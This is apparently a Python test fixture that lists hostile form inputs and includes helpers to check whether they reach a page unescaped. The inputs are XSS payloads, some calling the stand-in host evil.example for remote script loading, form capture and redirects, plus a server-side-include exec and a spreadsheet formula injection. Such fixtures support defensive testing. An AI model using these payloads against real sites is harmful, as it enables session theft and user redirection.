"""What somebody who means harm types into a form."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<form action=//evil.example><input name=p>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<style>*{background:url(//evil.example)}</style>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)//<b>",
    "<b>{{ 7|add:7 }}</b>{% debug %}",
    "<!--#exec cmd='/bin/ls'-->",
    "=cmd|' /C calc'!A0",
)
NUL = "a\x00b<b>"
BIDI = "abc\u202edef\u2066<b>"
LONG = "<b>" + "x" * 10_000
HOSTILE = (*SCRIPTS, NUL, BIDI, LONG)


def shown_raw(value: str, html: str) -> bool:
    """Whether markup that was typed stands in a page as markup."""
    return any(sign in value for sign in "<>\"'") and value in html


def unsafe_link(html: str) -> bool:
    """Whether any link or form leads into a script."""
    low = html.lower()
    return any(
        f"{name}={quote}javascript:" in low for name in ("href", "src", "action") for quote in "\"'"
    )
